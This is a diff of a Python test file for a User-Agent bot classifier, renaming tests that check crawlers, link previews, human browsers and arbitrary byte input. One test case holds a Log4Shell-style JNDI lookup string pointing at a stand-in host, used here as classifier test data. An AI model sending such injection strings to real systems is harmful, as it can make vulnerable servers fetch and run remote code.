@@ -34,28 +34,28 @@ def entries() -> list[dict[str, Any]]:
     return json.loads((Path(spec.origin).parent / "crawler-user-agents.json").read_text())
 
 
-def test_it_works() -> None:
+def test_recognizes_crawlers_previews_and_people() -> None:
     googlebot = b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
     assert bot_of(googlebot) == Bot("Googlebot", "crawler")
     assert bot_of(b"facebookexternalhit/1.1") == Bot("facebookexternalhit", "preview")
     assert bot_of(b"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0") is None
 
 
-def test_the_mix(mix: list[Agent]) -> None:
+def test_classifies_the_sample_mix(mix: list[Agent]) -> None:
     """Two thousand, of which six in seven are people."""
     told = {agent.raw: bot_of(agent.raw) for agent in mix}
     expected = {agent.raw: Bot(agent.bot, agent.kind) if agent.bot else None for agent in mix}
     assert {raw: (told[raw], expected[raw]) for raw in told if told[raw] != expected[raw]} == {}
 
 
-def test_every_example_of_the_package() -> None:
+def test_recognizes_every_example_of_the_package() -> None:
     used = [entry for entry in entries() if entry["pattern"] not in NOT_BOTS]
     missed = [text for entry in used for text in entry["instances"] if not bot_of(text.encode())]
     assert missed == []
     assert len(used) > 1_400
 
 
-def test_what_is_left_out_of_the_package() -> None:
+def test_excluded_patterns_exist_in_the_package() -> None:
     """An update that takes in another HTTP client, or takes one out, shows here."""
     listed = dict(listed_patterns())
     assert NOT_BOTS | set(STRICTER) <= set(listed)
@@ -89,12 +89,12 @@ def test_what_is_left_out_of_the_package() -> None:
         "",
     ],
 )
-def test_people_and_their_programs(user_agent: str) -> None:
+def test_people_and_their_programs_are_no_bots(user_agent: str) -> None:
     assert bot_of(user_agent.encode()) is None
 
 
 @pytest.mark.parametrize("pattern", STRICTER)
-def test_words_that_people_have_too(pattern: str) -> None:
+def test_words_in_names_of_phones_and_apps(pattern: str) -> None:
     """As the name of a phone, and of an app behind the browser's own name."""
     word = pattern.replace("\\", "")
     app = f" {word}8.1" if word.endswith("/") else ""
@@ -133,12 +133,12 @@ def test_words_that_people_have_too(pattern: str) -> None:
         (b"${jndi:ldap://acme.example/x}", Bot("Robot", "crawler")),
     ],
 )
-def test_names(user_agent: bytes, bot: Bot) -> None:
+def test_names_bots(user_agent: bytes, bot: Bot) -> None:
     assert bot_of(user_agent) == bot
 
 
 @given(st.binary(max_size=9_000))
-def test_any_bytes(user_agent: bytes) -> None:
+def test_accepts_any_bytes(user_agent: bytes) -> None:
     bot = bot_of(user_agent)
     assert bot is None or (bot.kind in {"crawler", "preview"} and bot.name.isprintable())
 
@@ -150,6 +150,6 @@ def test_a_name_is_bounded() -> None:
     assert 0 < len(bot.name) <= 100
 
 
-def test_a_bot_names_itself_soon() -> None:
+def test_examines_the_start_of_a_user_agent() -> None:
     """What comes after half a kilobyte is not looked at, so eight cost no more."""
     assert bot_of(b"x" * 8_000 + b" Googlebot/2.1") is None
